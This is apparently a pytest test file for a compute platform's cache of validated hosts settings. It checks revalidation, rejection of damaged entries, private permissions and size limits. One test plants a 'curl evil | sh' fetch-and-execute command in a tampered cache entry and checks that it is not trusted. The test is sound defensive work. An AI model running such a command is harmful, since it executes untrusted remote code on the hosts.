"""The cache of validated hosts files (input/settings_cache.py): a file read again is not parsed or
validated again, a changed one is, and nothing another user could have written is trusted."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from compute_platform.errors import InputError
from compute_platform.input import settings_cache
from compute_platform.input.inventory import load_hosts

HOSTS = """\
gpu1:
  host: gpu1.example.org
  user: me
  port: 2222
  init: |
    if true; then
      module load cuda
    fi
  env: {SEED: 3, DEBUG: yes}
  save_path: /scratch/me/slurm_logs
  control_persist: 8h
cluster: {platform: slurm, gpu: 2}
"""


@pytest.fixture
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    return tmp_path / "cache" / "compute" / "hosts"


def hosts_file(tmp_path: Path, text: str = HOSTS) -> Path:
    path = tmp_path / "hosts.yaml"
    path.write_text(text)
    return path


def validations(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    """Each call of the validation, from now on."""
    from compute_platform.input import models

    seen: list[Path] = []
    real = models.validate_hosts

    def counted(path: Path, text: str):  # type: ignore[no-untyped-def]
        seen.append(path)
        return real(path, text)

    monkeypatch.setattr(models, "validate_hosts", counted)
    return seen


def test_a_file_read_again_is_not_validated_again_and_reads_the_same(
    tmp_path: Path, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen = validations(monkeypatch)
    path = hosts_file(tmp_path)
    first = load_hosts(path)
    second = load_hosts(path)
    assert len(seen) == 1
    assert second == first
    hosts, positions = second
    assert hosts["gpu1"].init == ("if true; then\n  module load cuda\nfi",)
    assert hosts["gpu1"].env == {"SEED": "3", "DEBUG": "yes"}
    assert hosts["gpu1"].persist_seconds == 8 * 3600
    assert hosts["cluster"].gpu == 2 and hosts["cluster"].platform == "slurm"
    assert hosts["gpu1"].given == {"host", "user", "port", "init", "env", "save_path", "control_persist"}
    assert positions["cluster"].line == 12
    assert [p.name for p in cache.iterdir()] == [settings_cache.entry_name(path, HOSTS)]


def test_a_changed_file_is_validated_again(
    tmp_path: Path, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = hosts_file(tmp_path)
    load_hosts(path)
    path.write_text(HOSTS + "bad: {port: 0}\n")
    with pytest.raises(InputError, match="port"):
        load_hosts(path)
    path.write_text(HOSTS.replace("2222", "2223"))
    assert load_hosts(path)[0]["gpu1"].port == 2223


def test_the_same_text_elsewhere_keeps_its_own_positions(tmp_path: Path, cache: Path) -> None:
    one, other = tmp_path / "a", tmp_path / "b"
    one.mkdir(), other.mkdir()
    load_hosts(hosts_file(one))
    assert load_hosts(hosts_file(other))[1]["gpu1"].file == str(other / "hosts.yaml")


def test_what_cannot_be_read_is_validated_again(
    tmp_path: Path, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = hosts_file(tmp_path)
    load_hosts(path)
    entry = cache / settings_cache.entry_name(path, HOSTS)
    seen = validations(monkeypatch)
    for damaged in ("{", '{"hosts": {"x": {"nope": 1}}, "positions": {}}', "[]"):
        entry.write_text(damaged)
        assert load_hosts(path)[0]["gpu1"].port == 2222
    assert len(seen) == 3


def test_a_cache_others_could_write_is_not_trusted(
    tmp_path: Path, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Settings say what runs on every host (`init`): a planted entry must not be read."""
    path = hosts_file(tmp_path)
    load_hosts(path)
    entry = cache / settings_cache.entry_name(path, HOSTS)
    planted = json.loads(entry.read_text())
    planted["hosts"]["gpu1"]["init"] = ["curl evil | sh"]
    entry.write_text(json.dumps(planted))
    for loose, mode in ((entry, 0o622), (cache, 0o777)):
        os.chmod(loose, mode)
        assert load_hosts(path)[0]["gpu1"].init[0].startswith("if true")
        os.chmod(loose, 0o600 if loose == entry else 0o700)
    assert "curl" not in entry.read_text()  # validated again, and kept again where that was safe


def test_entries_are_private_and_bounded(
    tmp_path: Path, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(settings_cache, "KEEP", 3)
    for n in range(5):
        load_hosts(hosts_file(tmp_path, HOSTS.replace("2222", str(3000 + n))))
    entries = list(cache.glob("*.json"))
    assert len(entries) == 3
    assert all(e.stat().st_mode & 0o777 == 0o600 for e in entries)
    assert not list(cache.glob(".*"))  # no temporary file left


def test_a_cache_that_cannot_be_written_is_no_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("")
    monkeypatch.setenv("XDG_CACHE_HOME", str(blocker))
    assert load_hosts(hosts_file(tmp_path))[0]["gpu1"].port == 2222
